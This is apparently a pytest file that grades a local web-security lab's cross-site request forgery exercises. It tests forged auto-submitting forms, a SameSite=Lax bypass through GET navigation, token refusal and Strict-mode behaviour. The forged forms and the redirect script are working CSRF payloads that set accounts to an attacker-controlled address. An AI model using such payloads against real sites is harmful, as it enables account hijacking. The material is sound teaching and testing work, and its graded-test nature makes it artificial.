"""Sheet 13 in both engines: the forged changes its solutions describe, sent from a page on the exploit
server, each graded from the learner's own traffic. Each engine on a stack of its own."""

import json

import pytest
from local_lab import running_stack_and_site, wait_until

pytestmark = pytest.mark.browser

# What each test solves (tests/stack/test_challenges.py reads this table).
SOLVES = {
    "test_another_action_is_forged_from_the_exploit_page": ["13-forward-forged"],
    "test_with_lax_a_get_navigation_still_changes_the_email": ["13-lax-bypass"],
    "test_the_token_refuses_the_forged_change_though_the_session_went_with_it": ["13-token-refuses"],
    "test_strict_keeps_the_session_off_a_link_from_another_site_and_the_page_says_so": [],
}


@pytest.fixture
def fresh(tmp_path):
    with running_stack_and_site(tmp_path) as stack:
        yield stack


def form(url: str, **fields: str) -> str:
    inputs = "".join(f'<input name="{name}" value="{value}">' for name, value in fields.items())
    return f'<form method="post" action="{url}">{inputs}</form><script>document.forms[0].submit()</script>'


def open_exploit(tab, stack, page: str) -> None:
    """Store the page as a learner does, on the exploit server's form, and open it."""
    tab.goto(stack.site + "/exploit-server")
    tab.js(f"document.getElementById('page').value = {json.dumps(page)}")
    tab.click("#store button")
    tab.goto(stack.site + "/exploit")


def log_in(tab, stack, mode: str) -> None:
    tab.goto(stack.target + "/csrf/")
    tab.click(f"input[name=mode][value={mode}]")
    tab.click("#set-samesite")
    tab.click("#login")
    assert tab.text("#who").startswith("Signed in as learner")


def solve(stack, cid: str) -> dict:
    return wait_until(lambda: next((r for r in stack.records() if cid in r["solved"]), None), 15, f"{cid} solved")


def account(tab, stack) -> str:
    """The account as the signed-in learner sees it."""
    tab.goto(stack.target + "/csrf/")
    return tab.js(
        "document.getElementById('email').textContent + ' | ' + document.getElementById('forward').textContent"
    )


def test_another_action_is_forged_from_the_exploit_page(fresh, tab):
    log_in(tab, fresh, "none")
    open_exploit(tab, fresh, form(f"{fresh.target}/csrf/forward", address="attacker@evil.example"))
    record = solve(fresh, "13-forward-forged")
    assert record["method"] == "POST" and record["path"] == "/csrf/forward"
    assert account(tab, fresh) == "learner@cookielab.example | attacker@evil.example"


def test_with_lax_a_get_navigation_still_changes_the_email(fresh, tab):
    log_in(tab, fresh, "lax")
    # The Steps' POST goes without the cookie under Lax...
    open_exploit(tab, fresh, form(f"{fresh.target}/csrf/email", email="attacker@evil.example"))
    assert "not signed in" in tab.text("body")
    # ...a top-level GET does not, and the handler obeys it.
    open_exploit(tab, fresh, f"<script>location = '{fresh.target}/csrf/email?email=attacker%40evil.example'</script>")
    record = solve(fresh, "13-lax-bypass")
    assert (record["method"], record["status"]) == ("GET", 303)
    assert account(tab, fresh) == "attacker@evil.example | (none)"


def test_the_token_refuses_the_forged_change_though_the_session_went_with_it(fresh, tab):
    log_in(tab, fresh, "none")
    tab.click("#flip-token")
    open_exploit(tab, fresh, form(f"{fresh.target}/csrf/email", email="attacker@evil.example"))
    assert "refused: the CSRF token is missing or wrong" in tab.text("body")
    record = solve(fresh, "13-token-refuses")
    assert record["status"] == 403 and [c["name"] for c in record["request_cookies"]] == ["csrf_session"]
    assert account(tab, fresh) == "learner@cookielab.example | (none)"


def test_strict_keeps_the_session_off_a_link_from_another_site_and_the_page_says_so(fresh, tab):
    """Sheet 13, Step 5: the cost of Strict, and the account page's note of a cookie its request lacked."""
    log_in(tab, fresh, "strict")
    open_exploit(tab, fresh, f'<a id="back" href="{fresh.target}/csrf/">Your account</a>')
    tab.click("#back")
    assert tab.text("#who") == "Not signed in."
    assert tab.text("#hidden-note") == "Page script sees cookies this page's request did not carry: csrf_session"
    tab.goto(fresh.target + "/csrf/")
    assert tab.text("#who").startswith("Signed in as learner")
